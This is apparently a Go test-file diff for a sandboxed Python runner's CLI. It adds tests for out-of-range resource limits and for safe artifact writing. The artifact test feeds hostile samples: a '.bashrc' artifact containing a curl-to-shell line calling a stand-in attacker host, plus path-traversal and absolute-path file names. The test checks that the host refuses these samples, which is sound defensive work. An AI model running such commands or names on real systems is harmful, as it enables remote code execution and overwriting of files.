@@ -6,6 +6,7 @@ import (
 	"encoding/json"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -56,7 +57,6 @@ func TestRunCommand(t *testing.T) {
 		{name: "missing program file", args: []string{"run", filepath.Join(dir, "nope.py")}, exit: exitUsage, stderr: "no such file"},
 		{name: "bad --file", args: []string{"run", "--file", filepath.Join(dir, "nope.csv"), "-"}, exit: exitUsage, stderr: "nope.csv"},
 		{name: "bad --out", args: []string{"run", "--out", "relative", "-"}, exit: exitUsage, stderr: "REMOTE:LOCAL"},
-		{name: "limit above maximum", args: []string{"run", "--memory", "999999", "-"}, stdin: "pass", exit: exitInternal, stderr: "above this server's maximum"},
 		{name: "unknown flag", args: []string{"run", "--nope", "-"}, exit: exitUsage},
 		{name: "unknown command", args: []string{"frobnicate"}, exit: exitUsage, stderr: "unknown command"},
 		{name: "version", args: []string{"version"}, exit: 0, stdout: "python.wasm build"},
@@ -86,5 +86,86 @@ func TestRunCommand(t *testing.T) {
 				tc.checkFiles(t)
 			}
 		})
+	}
+}
+
+// An argument the engine refuses is the user's mistake: exit 2 with the limit named, not 125.
+func TestCLIBadLimitExits2(t *testing.T) {
+	for _, tc := range []struct {
+		name   string
+		args   []string
+		stderr []string
+	}{
+		{"memory above maximum", []string{"run", "--tier", "nano", "--memory", "999999", "-"}, []string{"memory_limit_mb 999999 MiB", "maximum of 2048 MiB"}},
+		{"memory below minimum", []string{"run", "--tier", "nano", "--memory", "1", "-"}, []string{"memory_limit_mb 1 MiB", "minimum of"}},
+		{"timeout above maximum", []string{"run", "--tier", "nano", "--timeout", "100h", "-"}, []string{"timeout_ms 360000000 ms", "maximum of"}},
+		{"output cap below minimum", []string{"run", "--tier", "nano", "--max-output", "-5", "-"}, []string{"max_output_bytes is negative"}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			var out, errOut bytes.Buffer
+			code := Main(context.Background(), tc.args, strings.NewReader("print('ran')"), &out, &errOut)
+			if code != exitUsage {
+				t.Fatalf("exit %d, want %d\nstderr: %s", code, exitUsage, errOut.String())
+			}
+			for _, want := range tc.stderr {
+				if !strings.Contains(errOut.String(), want) {
+					t.Fatalf("stderr %q lacks %q", errOut.String(), want)
+				}
+			}
+			if out.Len() != 0 {
+				t.Fatalf("the program ran: %q", out.String())
+			}
+		})
+	}
+}
+
+// A guest controls the artifacts a heavy run reports (it can forge the agent's result line): their
+// names and content must not decide what lands in the --artifacts directory.
+func TestArtifactNamesAreHostChosen(t *testing.T) {
+	png := func(tail string) []byte { return append([]byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), tail...) }
+	home := t.TempDir()
+	dir := filepath.Join(home, "charts")
+	if err := os.MkdirAll(dir, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	// A chart from an earlier run, which must survive.
+	if err := os.WriteFile(filepath.Join(dir, "chart-1.png"), []byte("earlier"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	written, refused, err := writeArtifacts(dir, []api.Artifact{
+		{Name: "figure-1.png", MIME: "image/png", Data: png("first")},
+		{Name: ".bashrc", MIME: "image/png", Data: []byte("curl evil.example | sh\n")},
+		{Name: "../escaped.sh", MIME: "text/x-shellscript", Data: []byte("#!/bin/sh\n")},
+		{Name: "/etc/evil.png", MIME: "image/png", Data: png("second")},
+		{Name: "x.png", MIME: "image/png", Data: nil},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{filepath.Join(dir, "chart-2.png"), filepath.Join(dir, "chart-3.png")}
+	if !slices.Equal(written, want) {
+		t.Fatalf("wrote %v, want %v", written, want)
+	}
+	if len(refused) != 3 {
+		t.Fatalf("refused %v, want the three artifacts that are not the PNGs they claim", refused)
+	}
+	for _, p := range want {
+		if b, err := os.ReadFile(p); err != nil || !bytes.HasPrefix(b, []byte("\x89PNG")) {
+			t.Fatalf("%s: %q %v", p, b, err)
+		}
+	}
+	if b, _ := os.ReadFile(filepath.Join(dir, "chart-1.png")); string(b) != "earlier" {
+		t.Fatalf("an existing file was overwritten: %q", b)
+	}
+	entries, _ := os.ReadDir(dir)
+	var names []string
+	for _, e := range entries {
+		names = append(names, e.Name())
+	}
+	if !slices.Equal(names, []string{"chart-1.png", "chart-2.png", "chart-3.png"}) {
+		t.Fatalf("the directory holds %v", names)
+	}
+	if _, err := os.Stat(filepath.Join(home, "escaped.sh")); err == nil {
+		t.Fatal("an artifact escaped the directory")
 	}
 }
